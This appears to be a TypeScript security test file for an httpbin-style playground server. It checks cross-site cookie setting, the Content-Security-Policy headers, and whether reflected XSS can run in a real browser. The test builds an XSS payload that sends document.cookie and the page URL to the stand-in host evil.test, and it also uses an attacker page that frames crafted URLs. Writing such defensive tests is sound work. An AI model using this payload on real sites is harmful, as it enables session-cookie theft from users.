      '/cookies/set?%3Cscript%3E=x',
      '/cookies/delete?a%20b',
      '/cookies/set/a%3Bb/c',
    ]) {
      const answer = await rawGet(pg.url, path, {});
      assert.equal(answer.status, 400, path);
      assert.equal(answer.headers['set-cookie'], undefined, path);
      assertInert(answer, path);
    }
  });

  it('lets no page on another site set or delete cookies through /cookies/set (cookies reach every port on the host)', async () => {
    for (const path of [
      '/cookies/set?app_session=planted',
      '/cookies/set/app_session/planted',
      '/cookies/delete?app_session',
    ]) {
      const crossSite = await rawGet(pg.url, path, { 'sec-fetch-site': 'cross-site' });
      assert.equal(crossSite.status, 400, path);
      assert.equal(crossSite.headers['set-cookie'], undefined, path);
      assert.match(JSON.parse(crossSite.body).detail, /another site/, path);
      // A program (no Sec-Fetch-Site) and the playground's own pages still set them, as httpbin.
      for (const headers of [{}, { 'sec-fetch-site': 'same-origin' }, { 'sec-fetch-site': 'none' }]) {
        const answer = await rawGet(pg.url, path, headers);
        assert.equal(answer.status, 302, `${path} ${JSON.stringify(headers)}`);
        assert.match(String(answer.headers['set-cookie']), /^app_session=/);
      }
    }
  });

  it('lets the index page render its style and nothing else: no script, no frame, no form, no base', async () => {
    const index = await rawGet(pg.url, '/', {});
    assert.equal(index.status, 200);
    assert.equal(index.headers['x-content-type-options'], 'nosniff');
    const policy = String(index.headers['content-security-policy']);
    assert.match(policy, /^default-src 'none'; /);
    assert.match(policy, /frame-ancestors 'none'/);
    assert.match(policy, /base-uri 'none'/);
    assert.match(policy, /form-action 'none'/);
    assert.doesNotMatch(policy, /script-src|unsafe/);
    // The page's one inline style is allowed by its hash, so the page still renders styled.
    const style = /<style>(.*?)<\/style>/s.exec(index.body)![1]!;
    const { createHash } = await import('node:crypto');
    assert.match(
      policy,
      new RegExp(`style-src 'sha256-${createHash('sha256').update(style).digest('base64').replace(/[+/]/g, '\\$&')}'`),
    );
  });
});

/** The attacker's page: frames the crafted playground URLs, then sends the tab to one of them. */
const XSS_PAGE = (targets: string[]) => `<!doctype html><html><body>
${targets.map((url) => `<iframe src="${url.replace(/&/g, '&amp;').replace(/"/g, '&quot;')}"></iframe>`).join('\n')}
<script>addEventListener('load', () => { window.framed = true; });</script>
</body></html>`;

describe('reflected XSS in a real browser: a page on another site cannot run script on the playground’s origin', () => {
  let pg: Playground;
  let page: Server;
  const beacons: string[] = [];
  let targets: string[] = [];
  before(async () => {
    if (!requireChromium(noBrowser)) return;
    pg = await startPlayground();
    page = createServer((req, res) => {
      if (req.url!.startsWith('/beacon')) beacons.push(req.url!);
      res.writeHead(200, { 'content-type': 'text/html' });
      res.end(req.url === '/frames' ? XSS_PAGE(targets) : '');
    });
    await new Promise<void>((resolve) => page.listen(0, '127.0.0.1', resolve));
    const { port } = page.address() as AddressInfo;
    // What the script would do on the playground's origin: mark the window, and call home.
    const payload = `<script>window.pwned=location.origin;new Image().src='http://evil.test:${port}/beacon?'+encodeURIComponent(document.cookie+location.href)</script>`;
    targets = [
      `${pg.url}/response-headers?${new URLSearchParams({ 'Content-Type': 'text/html', x: payload })}`,
      `${pg.url}/response-headers?${new URLSearchParams({ 'Content-Type': 'text/html; charset=utf-8', x: payload })}`,
      `${pg.url}/response-headers?${new URLSearchParams({ 'Content-Type': 'text/plain', x: payload })}`,
      `${pg.url}/get?${new URLSearchParams({ x: payload })}`,
      `${pg.url}/anything/${encodeURIComponent(payload)}`,
      `${pg.url}/${encodeURIComponent(payload)}`,
    ];
  });
  after(async () => {
    page?.close();
    await pg?.close();
  });

  it('neither a frame nor a navigation of the crafted URLs runs the script (no marker, no beacon)', {
    skip: noBrowser,
  }, async () => {
    const browser = await launchChromium([
      '--disable-features=HttpsUpgrades',
      '--host-resolver-rules=MAP evil.test 127.0.0.1',
    ]);
    try {
      const { port } = page.address() as AddressInfo;
      const tab = await browser.newPage();
      await tab.goto(`http://evil.test:${port}/frames`);
      await tab.waitForFunction(() => (window as unknown as { framed?: boolean }).framed === true, undefined, {
        timeout: 20_000,
      });
      for (const frame of tab.frames().slice(1)) {
        const marker = await frame
          .evaluate(() => (window as unknown as { pwned?: string }).pwned)
          .catch(() => undefined);
        assert.equal(marker, undefined, `a framed ${frame.url()} ran the script`);
      }
      // The page sends the whole tab to each crafted URL (as window.open or a link would).
      for (const target of targets) {
        await tab.goto(`http://evil.test:${port}/`);
        await tab.evaluate((url) => {
          location.href = url;
        }, target);
        await tab.waitForURL((url) => url.href.startsWith(pg.url), { timeout: 20_000 });
        await tab.waitForLoadState('load');
        const marker = await tab.evaluate(() => (window as unknown as { pwned?: string }).pwned);
        assert.equal(marker, undefined, `navigating to ${target} ran the script on ${marker}`);
      }
      // Nor can the page plant a cookie on the playground's host (cookies ignore the port).
      await tab.goto(`http://evil.test:${port}/`);
      await tab.evaluate((url) => {
        location.href = url;
      }, `${pg.url}/cookies/set?app_session=planted`);
      await tab.waitForURL((url) => url.href.startsWith(pg.url), { timeout: 20_000 });
      await tab.waitForLoadState('load');
      assert.deepStrictEqual(
        (await tab.context().cookies(pg.url)).map((cookie) => cookie.name),
        [],
        'a cookie planted from another site',
      );
      await new Promise((resolve) => setTimeout(resolve, 300));
      assert.deepStrictEqual(beacons, [], 'the script called home from the playground’s origin');
    } finally {
      await browser.close();
    }
  });
});
